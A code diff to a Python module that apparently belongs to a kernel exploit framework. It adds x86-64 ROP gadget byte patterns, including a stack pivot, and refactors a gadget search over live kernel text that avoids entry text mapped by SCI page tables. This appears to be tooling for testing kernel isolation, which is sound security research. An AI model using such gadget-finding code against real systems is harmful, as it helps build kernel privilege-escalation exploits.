@@ -12,7 +12,6 @@ Rules of this file:
 import re
 import struct
 from collections.abc import Callable, Iterable, Iterator
-from functools import lru_cache
 from typing import TYPE_CHECKING
 
 from thinbox.address import U64, page_start
@@ -22,7 +21,8 @@ if TYPE_CHECKING:
     from thinbox.image.symbols import SymbolTable
 
 RETURN = b"\xc3"
-POP_RDI, POP_RSI, POP_RSP, POP_RBX_RBP = b"\x5f\xc3", b"\x5e\xc3", b"\x5c\xc3", b"\x5b\x5d\xc3"
+POP_RDI, POP_RSI, POP_RDX, POP_RSP = b"\x5f\xc3", b"\x5e\xc3", b"\x5a\xc3", b"\x5c\xc3"
+POP_RBX_RBP, POP_RDI_RBP, POP_RSI_RDI = b"\x5b\x5d\xc3", b"\x5f\x5d\xc3", b"\x5e\x5f\xc3"
 STORE_RSI_AT_RDI = b"\x48\x89\x37\xc3"
 XCHG_EAX_ESP = b"\x94\xc3"
 CLEAR_EAX = b"\x31\xc0\xc3"
@@ -39,6 +39,7 @@ class LiveText:
 
         self.code, self.start, self.symbols = code, int(symbols.text_start), symbols
         self._decoder = capstone.Cs(capstone.CS_ARCH_X86, capstone.CS_MODE_64)
+        self._entry_text = page_start(self.data("__entry_text_start")), self.data("__irqentry_text_end")
         self._thunks = {
             int(vaddr): match[1] for vaddr, _kind, name in symbols if (match := _THUNK.fullmatch(name)) is not None
         }
@@ -72,21 +73,16 @@ class LiveText:
     def gadget(self, code: bytes, wanted: Callable[[int], bool] | None = None) -> int:
         """Return the first place of these bytes in the middle of a function, and that `wanted` accepts."""
         for vaddr in self.gadgets(code):
-            symbol = self.symbols.text_symbol_at(vaddr)
-            # Entry text is part of every SCI page table: taking it would beat isolation by an accident of this search.
-            if symbol is None or symbol.start == vaddr or self._is_entry_text(vaddr):
-                continue
-            if wanted is None or wanted(vaddr):
+            if self.is_inside(vaddr) and (wanted is None or wanted(vaddr)):
                 return vaddr
         raise ExploitFailedError(f"this kernel's text has no gadget {code.hex(' ')} as it is needed")
 
-    @lru_cache(maxsize=1)  # noqa: B019 - one text a process, for its life
-    def _entry_text(self) -> tuple[int, int]:
-        return self.data("__entry_text_start"), self.data("__irqentry_text_end")
-
-    def _is_entry_text(self, vaddr: int) -> bool:
-        start, end = self._entry_text()
-        return page_start(start) <= vaddr < end
+    def is_inside(self, vaddr: int) -> bool:
+        """Whether this is the middle of a function, outside the entry text (which every SCI page table maps, so that
+        taking a gadget there would beat isolation by an accident of the search)."""
+        symbol = self.symbols.text_symbol_at(vaddr)
+        start, end = self._entry_text
+        return symbol is not None and symbol.start != vaddr and not start <= vaddr < end
 
     def indirect_call(self, function: str) -> tuple[int, str]:
         """Return (address, register) of the first indirect call in a function, through a thunk or not."""
